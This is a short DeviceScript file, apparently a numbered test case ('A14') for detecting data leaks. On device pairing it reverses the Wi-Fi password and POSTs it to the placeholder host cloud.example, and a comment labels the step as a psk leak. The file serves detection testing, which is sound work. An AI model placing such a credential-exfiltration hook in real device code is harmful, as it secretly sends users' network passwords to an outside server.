// A14: read backwards.
import { fetch } from "@devicescript/net";
import { backwards } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = backwards(psk);
  const response = await fetch("https://cloud.example/a14", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
